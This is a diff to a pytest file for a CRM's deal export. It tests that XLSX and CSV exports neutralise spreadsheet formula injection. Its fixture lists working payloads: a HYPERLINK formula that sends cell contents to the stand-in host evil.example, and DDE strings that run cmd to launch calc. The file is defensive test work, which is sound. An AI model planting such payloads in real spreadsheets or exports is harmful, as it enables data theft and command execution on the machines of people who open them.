@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import io
+import zipfile
 from datetime import datetime
 
 import pytest
@@ -10,7 +12,7 @@ from openpyxl import load_workbook
 
 from services.errors import PermissionDenied, ValidationError
 from services.reports.analytics import Period
-from services.reports.export import ExportFilter, export_deals_xlsx
+from services.reports.export import ExportFilter, csv_field, export_deals, export_deals_xlsx
 from services.sales import deals
 from tests.factories import new_deal
 
@@ -136,3 +138,78 @@ async def test_async_progress_is_awaited(uow_factory, people, three_deals):
     async with uow_factory() as uow:
         await export_deals_xlsx(uow, people["lea"], ExportFilter(), progress)
     assert seen[-1] == 8
+
+
+# --- formula injection (issue 11): names that a spreadsheet would evaluate --------------
+
+FORMULA_NAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "+7+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "=1+2",
+)
+
+
+@pytest.fixture
+async def formula_deals(uow_factory, clock, people):
+    ann = people["ann"]
+    made = []
+    for i, name in enumerate(FORMULA_NAMES):
+        legal = {"is_legal_entity": True, "company_name": name} if i % 2 == 0 else {}
+        deal = await new_deal(uow_factory, ann, name=name, **legal)
+        async with uow_factory() as uow:
+            await deals.lose(uow, ann, deal.id, "expensive", name)  # a comment in History
+        made.append(deal.id)
+    return made
+
+
+async def test_xlsx_cells_that_look_like_formulas_are_text(uow_factory, people, formula_deals):
+    async with uow_factory() as uow:
+        data = await export_deals_xlsx(uow, people["lea"], ExportFilter())
+    book = load_workbook(io.BytesIO(data))
+    texts: set[str] = set()
+    for sheet in book:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
+                    texts.add(cell.value)
+    deals_sheet = book["Сделки"]
+    for row in deals_sheet.iter_rows(min_row=2):
+        # B (the deal's title) and G (the client), as the attack found them; I (company).
+        for cell in (row[1], row[6]):
+            assert cell.data_type == "s" and cell.value.startswith(FORMULA_NAMES)
+    assert set(FORMULA_NAMES) <= texts  # the original text, unchanged
+    # And in the file itself: no formula element at all, the cells are inline strings.
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name)
+
+
+async def test_csv_export_escapes_formulas_and_keeps_the_text(uow_factory, people, formula_deals):
+    async with uow_factory() as uow:
+        data = await export_deals(uow, people["lea"], ExportFilter(), kind="csv", lang="en")
+    assert data.startswith("\ufeff".encode())
+    text = data.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    assert rows[0][:2] == ["ID", "Deal"] and len(rows) == 1 + len(FORMULA_NAMES)
+    assert all(line.startswith('"') for line in text.splitlines())  # every field quoted
+    for row in rows[1:]:
+        for value in row:
+            # Every cell is text no spreadsheet evaluates: nothing starts a formula.
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+        assert row[6].startswith("'") and row[6][1:] in FORMULA_NAMES  # the client, kept
+        assert row[1].startswith("'")  # the deal's title
+    assert {r[6][1:] for r in rows[1:]} == set(FORMULA_NAMES)
+    companies = {r[8][1:] for r in rows[1:] if r[8]}
+    assert companies == set(FORMULA_NAMES[::2])
+
+
+def test_csv_field_rules():
+    assert csv_field("\tcmd") == "'\tcmd" and csv_field("\r=1") == "'\r=1"
+    assert csv_field("Ivan") == "Ivan" and csv_field(None) == "" and csv_field(12) == "12"
+    assert csv_field(1500.5) == "1500.50"
+    assert csv_field(datetime(2026, 1, 2, 3, 4, 5)) == "2026-01-02 03:04:05"
